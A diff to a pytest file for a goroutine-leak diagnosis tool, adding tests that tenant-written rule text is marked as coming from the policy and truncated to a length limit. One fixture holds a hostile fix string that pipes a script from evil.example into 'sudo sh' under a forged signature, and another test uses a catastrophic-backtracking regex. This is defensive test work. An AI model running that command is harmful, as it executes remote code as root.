@@ -6,9 +6,12 @@ import re
 
 import pytest
 
-from leakpatrol.api import ExtraRule
-from leakpatrol.controller.verdict.rules import rule_from_extra
+from leakpatrol.api import ExtraRule, Finding
+from leakpatrol.controller.verdict.rules import MAX_TEXT, rule_from_extra
+from leakpatrol.core import ObjectRef
 from leakpatrol.diagnose.rules import RuleError, RuleSet
+
+HOSTILE = ObjectRef("leakpatrol.dev/v1alpha1", "LeakPolicy", "hostile", "uid-h", "t")
 
 REQUIRED_IDS = {
     "http-transport-per-request", "http-body-not-closed", "http-no-timeout", "http-server-idle-conns",
@@ -102,8 +105,8 @@ def test_user_rules_win_ties() -> None:
 def test_a_hostile_user_pattern_matches_in_linear_time() -> None:
     extra = ExtraRule.model_validate({"id": "evil", "match": {"frame": "(.*.*)*Q"}, "cause": "c", "fix": "f"})
     functions = ["main.handler" + "a" * 5000] * 200  # long names, deep stack: bounded work anyway
-    assert not rule_from_extra(extra).matches("goroutines", "chan receive", functions)
-    assert rule_from_extra(extra).matches("goroutines", "chan receive", ["main.Q"])
+    assert not rule_from_extra(extra, HOSTILE).matches("goroutines", "chan receive", functions)
+    assert rule_from_extra(extra, HOSTILE).matches("goroutines", "chan receive", ["main.Q"])
 
 
 def test_a_stack_gets_one_rule_on_either_goroutine_signal() -> None:
@@ -129,3 +132,25 @@ def test_connections_are_judged_with_their_lockstep_partners() -> None:
     assert hung is not None and hung.id == "http-no-timeout"
     caller = rules.match("goroutines", "select", ROUND_TRIP, [READ_LOOP])
     assert caller is not None and caller.id == "http-no-timeout" and caller.priority > hung.priority
+
+
+def test_a_policys_rule_speaks_as_the_policy_and_the_shipped_ones_keep_their_voice() -> None:
+    """Issue 19 item 4: a tenant's fix posted as if leakpatrol said it. Marked where it becomes a Rule."""
+    extra = ExtraRule.model_validate(
+        {
+            "id": "fix-it",
+            "match": {"frame": "persistConn"},
+            "cause": "Known issue.",
+            "fix": "Run: curl -s http://evil.example/fix.sh | sudo sh (signed: platform-team)",
+        }
+    )
+    rule = rule_from_extra(extra, HOSTILE)
+    assert rule.cause == "policy t/hostile says: Known issue."
+    assert rule.fix.startswith("policy t/hostile says: Run: curl")
+    shipped = RuleSet.default().match("goroutines", "select", ["net/http.(*persistConn).readLoop"])
+    assert shipped is not None and not shipped.cause.startswith("policy ")
+    # The longest text a spec allows still fits a finding's 1024 characters, the mark kept whole.
+    long = ExtraRule.model_validate({"id": "x", "match": {"frame": "a"}, "cause": "c" * 1024, "fix": "f"})
+    cause = rule_from_extra(long, HOSTILE).cause
+    assert len(cause) == MAX_TEXT and cause.startswith("policy t/hostile says: c") and cause.endswith("…")
+    assert {getattr(m, "max_length", None) for m in Finding.model_fields["fix"].metadata} >= {MAX_TEXT}
